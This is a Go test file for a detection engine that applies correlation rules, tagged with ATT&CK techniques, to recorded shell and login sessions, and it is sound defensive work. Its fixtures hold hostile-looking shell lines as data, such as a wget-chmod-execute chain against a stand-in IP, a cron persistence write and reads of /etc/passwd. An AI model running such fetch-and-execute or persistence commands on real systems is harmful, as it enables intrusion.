package rule

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"ttp-worker/tagger/shell"
	"ttp-worker/ttp"
)

// sessionRules ask for every sort of correlation.
const sessionRules = `
title: many failures
id: S1
tags: [attack.t1110]
detection: {failed: {category: auth, result: failed}}
correlation: {type: event_count, rules: [failed], timespan: 1m, condition: {gte: 3}}
---
title: many users
id: S2
tags: [attack.t1110.003]
detection: {failed: {category: auth, result: failed}}
correlation: {type: value_count, rules: [failed], timespan: 1m, condition: {field: username, gte: 3}}
---
title: one user many times
id: S3
tags: [attack.t1110.001]
detection: {failed: {category: auth, result: failed}}
correlation: {type: event_count, rules: [failed], group-by: [username], condition: {gte: 3}}
---
title: download and run
id: S4
tags: [attack.t1105]
detection:
  download: {program: [wget, curl]}
  mode: {program: chmod}
  run: {Image|startswith: ./}
correlation: {type: temporal_ordered, rules: [download, mode, run], timespan: 10m}
---
title: look and persist
id: S5
tags: [attack.t1053.003]
detection:
  look: {program: [id, w]}
  persist: [{program: crontab}, {writes|contains: /cron}]
correlation: {type: temporal, rules: [look, persist], timespan: 1m}
---
title: several sorts of looking
id: S6
tags: [attack.t1082]
detection:
  user: {program: [id, whoami]}
  system: {program: uname}
  processes: {program: ps}
  line: {line|contains: ' && ps'}
correlation: {type: value_count, rules: [user, system, processes, line], condition: {field: rule, gte: 3}}
---
title: a probe and a login
id: S7
tags: [attack.t1190]
detection:
  probe: {category: http, url|contains: ../}
  login: {category: auth, result: success}
correlation:
  type: temporal
  rules: [probe, login]
  group-by: [who]
  aliases: {who: {probe: user, login: username}}
---
title: exactly two
id: S8
tags: [attack.t1083]
detection: {ls: {program: ls}}
correlation: {type: event_count, rules: [ls], condition: {eq: 2}}
---
title: three lines, one of them twice asked for
id: S9
tags: [attack.t1083]
detection: {one: {program: [du, df, w]}, two: {program: [du, df]}}
correlation: {type: temporal_ordered, rules: [one, one, two]}
---
title: named
name: base_rule
id: 7f3c1b1e-0000-4000-8000-000000000001
logsource: {category: process_creation, product: linux}
detection: {s: {CommandLine|contains: passwd}, condition: s}
---
title: of another rule
name: of_another
tags: [attack.t1003]
correlation: {type: event_count, rules: [base_rule], timespan: 1h, condition: {gt: 1}, group-by: [Image], generate: true}
`

// at returns a time so many seconds into the session.
func at(seconds int) string {
	return time.Date(2026, 5, 2, 6, 0, 0, 0, time.UTC).Add(time.Duration(seconds) * time.Second).Format(time.RFC3339)
}

func auth(seconds int, user, result string) string {
	return fmt.Sprintf(`{"ts":%q,"username":%q,"password":"secret","service":"ssh","result":%q}`, at(seconds), user, result)
}

func typed(seconds int, line string) string {
	return fmt.Sprintf(`{"ts":%q,"command_text":%q}`, at(seconds), line)
}

func list(entries ...string) string { return "[" + strings.Join(entries, ",") + "]" }

func TestSessionRules(t *testing.T) {
	t.Parallel()
	set := mustLoad(t, sessionRules)
	for name, c := range map[string]struct {
		payload string
		want    []string
	}{
		"nothing happened":            {`{}`, nil},
		"lists of something else":     {`{"commands":[1,null,[]],"auth_attempts":["x"],"http_requests":{}}`, nil},
		"as many as asked for":        {`{"auth_attempts":` + list(auth(0, "a", "failed"), auth(30, "b", "failed"), auth(60, "a", "failed")) + `}`, []string{"S1"}},
		"one too few":                 {`{"auth_attempts":` + list(auth(0, "a", "failed"), auth(1, "a", "success"), auth(2, "a", "failed")) + `}`, nil},
		"over too long a time":        {`{"auth_attempts":` + list(auth(0, "a", "failed"), auth(30, "b", "failed"), auth(61, "a", "failed")) + `}`, nil},
		"several users":               {`{"auth_attempts":` + list(auth(0, "a", "failed"), auth(1, "b", "failed"), auth(2, "c", "failed")) + `}`, []string{"S1", "S2"}},
		"one user":                    {`{"auth_attempts":` + list(auth(0, "a", "failed"), auth(100, "a", "failed"), auth(200, "a", "failed")) + `}`, []string{"S3"}},
		"without times":               {`{"auth_attempts":[{"username":"a","result":"failed"},{"username":"b","result":"failed"},{"username":"b","result":"failed"}]}`, []string{"S1"}},
		"in one line":                 {`{"commands":["cd /tmp; wget http://192.0.2.1/x; chmod +x x; ./x"]}`, []string{"S4"}},
		"in one line, another order":  {`{"commands":["chmod +x x; ./x; wget http://192.0.2.1/x"]}`, nil},
		"again in the right order":    {`{"commands":["chmod x y; wget z; ./q; chmod +x z && ./z"]}`, []string{"S4"}},
		"in lines":                    {`{"commands":` + list(typed(0, "wget x"), typed(9, "chmod 777 x"), typed(600, "./x")) + `}`, []string{"S4"}},
		"in lines, too slow":          {`{"commands":` + list(typed(0, "wget x"), typed(9, "chmod 777 x"), typed(601, "./x")) + `}`, nil},
		"the later chain":             {`{"commands":` + list(typed(0, "wget x"), typed(500, "wget x"), typed(900, "chmod x"), typed(1000, "./x")) + `}`, []string{"S4"}},
		"lines sent in another order": {`{"commands":` + list(typed(3, "./x"), typed(2, "chmod 777 x"), typed(1, "curl x")) + `}`, []string{"S4"}},
		"in any order":                {`{"commands":["crontab x","id"]}`, []string{"S5"}},
		"only one of two":             {`{"commands":["crontab x","crontab y"]}`, nil},
		"by a redirection":            {`{"commands":["w","echo x > /etc/cron.d/y"]}`, []string{"S5"}},
		"different rules":             {`{"commands":["id; whoami","uname -a","ps"]}`, []string{"S6"}},
		"a rule about the line":       {`{"commands":["uname && ps"]}`, []string{"S6"}},
		"one user in two lists":       {`{"http_requests":[{"raw_url":"/../x","user":"a"}],"auth_attempts":` + list(auth(0, "a", "success")) + `}`, []string{"S7"}},
		"two users in two lists":      {`{"http_requests":[{"raw_url":"/../x","user":"b"}],"auth_attempts":` + list(auth(0, "a", "success")) + `}`, nil},
		"twice in a line":             {`{"commands":["ls; ls"]}`, []string{"S8"}},
		"the same rule several times": {`{"commands":["ps","ps","du","w"]}`, nil},
		"as often as it is named":     {`{"commands":["ps","du","w","df"]}`, []string{"S9"}},
		"a rule by name":              {`{"commands":["cat /etc/passwd","cat /etc/passwd"]}`, []string{"of_another"}},
		"a rule by name, two groups":  {`{"commands":["cat /etc/passwd","tac /etc/passwd"]}`, nil},
		"a list inside a text":        {`{"commands":"[\"ls\",\"ls\"]"}`, []string{"S8"}},
	} {
		t.Run(strings.ReplaceAll(name, " ", "_"), func(t *testing.T) {
			t.Parallel()
			ev := &ttp.Event{Kind: ttp.Session, Payload: payload(t, c.payload)}
			findings, err := set.Tag(t.Context(), ev)
			if err != nil {
				t.Fatal(err)
			}
			if d := cmp.Diff(c.want, ruleIDs(findings)); d != "" {
				t.Errorf("%s: (-want +got)\n%s", c.payload, d)
			}
		})
	}
}

func TestSessionFindingShowsWhatWasSeen(t *testing.T) {
	t.Parallel()
	set := mustLoad(t, sessionRules)
	entries := []string{auth(0, "x", "success")}
	for i := range 20 {
		entries = append(entries, auth(i, "root", "failed"))
	}
	ev := &ttp.Event{Kind: ttp.Session, Payload: payload(t, `{"session_id":"s","auth_attempts":`+list(entries...)+`}`)}
	findings, err := set.Tag(t.Context(), ev)
	if err != nil || len(findings) != 2 {
		t.Fatalf("%d findings, %v", len(findings), err)
	}
	got := string(findings[0].Evidence.AppendJSON(nil))
	want := `{"count":3,"matched":[{"rule":"failed","text":"ssh root failed","at":"2026-05-02T06:00:00Z"},` +
		`{"rule":"failed","text":"ssh root failed","at":"2026-05-02T06:00:01Z"},{"rule":"failed","text":"ssh root failed","at":"2026-05-02T06:00:02Z"}]}`
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

func TestSessionsAreRememberedEntryByEntry(t *testing.T) {
	t.Parallel()
	file := memory(map[string]string{"s.yml": sessionRules}).Read("s.yml", nil)
	set, problems := Compile(Options{Expand: shell.Expander, Memo: 64}, file)
	if problems != nil {
		t.Fatal(problems)
	}
	for _, c := range []struct {
		payload string
		want    []string
	}{
		{`{"commands":` + list(typed(0, "wget x"), typed(1, "chmod x"), typed(2, "./x")) + `}`, []string{"S4"}},
		{`{"commands":` + list(typed(0, "chmod x"), typed(1, "wget x"), typed(2, "./x")) + `}`, nil},
		{`{"commands":` + list(typed(0, "wget x"), typed(1, "chmod x"), typed(601, "./x")) + `}`, nil},
		{`{"auth_attempts":` + list(auth(0, "a", "failed"), auth(1, "b", "failed"), auth(2, "c", "failed")) + `}`, []string{"S1", "S2"}},
		{`{"auth_attempts":` + list(auth(0, "a", "failed"), auth(1, "b", "failed"), auth(2, "b", "failed")) + `}`, []string{"S1"}},
	} {
		for range 2 {
			findings, err := set.Tag(t.Context(), &ttp.Event{Kind: ttp.Session, Payload: payload(t, c.payload)})
			if got := ruleIDs(findings); err != nil || !slices.Equal(got, c.want) {
				t.Errorf("%s: %q, %v, want %q", c.payload, got, err, c.want)
			}
		}
	}
}

func TestSessionEvidenceIsBounded(t *testing.T) {
	t.Parallel()
	var shown []sighting
	for range 100 {
		shown = append(shown, sighting{asked: &asked{definition: &definition{}}, text: clip(strings.Repeat("é\x00", 10_000))})
	}
	if n := len(matchedValue(shown)); n > 32<<10 {
		t.Errorf("%d bytes", n)
	}
}

func TestLongSessionsAreLookedAtFromBothEnds(t *testing.T) {
	t.Parallel()
	lines := slices.Repeat([]string{"x"}, 20_000)
	lines[0], lines[len(lines)-1] = "id", "crontab y"
	set := mustLoad(t, sessionRules)
	ev := &ttp.Event{Kind: ttp.Session, Payload: ttp.Object{{Name: "commands", Value: ttp.Strings(lines)}}}
	findings, err := set.Tag(t.Context(), ev)
	if got := ruleIDs(findings); err != nil || !slices.Equal(got, []string{"S5"}) {
		t.Errorf("%q, %v", got, err)
	}
}

func TestKindsOfSessionRules(t *testing.T) {
	t.Parallel()
	if got := mustLoad(t, sessionRules).Kinds(); !slices.Equal(got, []ttp.Kind{ttp.Session}) {
		t.Errorf("kinds %q", got)
	}
}

func TestExplainSaysWhatASessionRuleSaw(t *testing.T) {
	t.Parallel()
	set := mustLoad(t, sessionRules)
	ev := &ttp.Event{Kind: ttp.Session, Payload: payload(t, `{"commands":["wget x","./x"]}`)}
	i := slices.IndexFunc(set.Rules(), func(r Info) bool { return r.ID == "S4" })
	got := set.Explain(ev)[i-1] // the base rule is listed and has nothing to say
	want := Trace{Asked: "one after the other, within 10m0s", Parts: []Trace{
		{Selection: "download", Asked: "is seen", Saw: []string{"wget x"}, Holds: true},
		{Selection: "mode", Asked: "is seen"},
		{Selection: "run", Asked: "is seen", Saw: []string{"./x"}, Holds: true},
	}}
	if d := cmp.Diff(want, got.Trace); d != "" || got.Matched || got.Near != 2 || got.Rule.ID != "S4" {
		t.Errorf("%s, matched %v, near %d\n%s", got.Rule.ID, got.Matched, got.Near, d)
	}
}
